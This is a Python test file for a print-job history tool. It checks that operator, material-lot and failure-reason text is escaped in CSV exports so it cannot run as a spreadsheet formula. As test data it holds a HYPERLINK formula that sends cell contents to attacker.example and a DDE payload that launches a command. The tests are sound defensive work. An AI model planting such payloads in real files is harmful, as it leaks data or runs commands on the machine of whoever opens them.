"""The device history exported as CSV is opened in a spreadsheet by quality staff: free text a technician or
a printer wrote (operator, material lot, failure reason) must never run there as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from hospfab.fileio import spreadsheet_safe


FORMULA = '=HYPERLINK("http://attacker.example/?"&A2,"open")'


def failed_job(operator: str = "ana", material_lot: str = "L-9", reason: str = "why"):
    """A failed job in this test's journal, recorded through the journal's own API."""
    from hospfab.journal import PRINTING, Job, Journal, new_job_id, now_iso
    from hospfab.settings import Settings

    journal = Journal(Settings.resolve().journal_path)
    job = Job(
        id=new_job_id(), ref="KNOB", revision=2, build_file="knob.gcode", sha256="cd" * 32, printer="mk4-01",
        printer_url="http://127.0.0.1:9", printer_profile="prusa-mk4", material="petg", material_lot=material_lot,
        operator=operator, created_at=now_iso(), overrides={}, remote_file="KNOB-r2-x.gcode",
    )  # fmt: skip
    journal.claim(job, require_bed_clear=False)
    journal.update(job.id, outcome=PRINTING, started_at=now_iso())
    journal.finish(job.id, "failed", reason)
    journal.close()
    return job


def test_free_text_starting_like_a_formula_is_exported_as_text(cli):
    failed_job(operator=FORMULA, material_lot="+1-555")
    out = cli("history", "--csv")
    assert out.exit_code == 0
    [row] = list(csv.DictReader(io.StringIO(out.stdout)))
    assert row["operator"] == "'" + FORMULA and row["material_lot"] == "'+1-555"
    assert row["revision"] == "2" and row["ref"] == "KNOB"  # ordinary cells untouched
    assert cli("history", "--json").json()["data"]["jobs"][0]["operator"] == FORMULA  # JSON keeps the record


@pytest.mark.parametrize("value, expected", [("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("-2+3", "'-2+3"),
                                             ("\tx", "'\tx"), ("ana", "ana"), (2, 2), (-1.5, -1.5)])
def test_spreadsheet_safe(value, expected):
    assert spreadsheet_safe(value) == expected


def test_lot_record_csv_exports_formulas_as_text():
    from hospfab.queue.record import to_csv

    job = {"id": "j1", "plate_id": "p1", "printer": "vt-0", "printer_profile": "prusa-mk4", "material": "petg",
           "material_lot": "L1", "operator": FORMULA, "started_at": None, "ended_at": None, "outcome": "failed",
           "reason": "=cmd|' /C calc'!A0", "remote_file": "f.gcode", "sha256": "ab" * 32}
    text = to_csv({"lot": {"id": "lot-1", "ref": "KNOB", "revision": 2}, "plates": [{"id": "p1", "units": 1}],
                   "attempts": [job]})
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert not row["operator"].startswith("=") and not row["reason"].startswith("=")
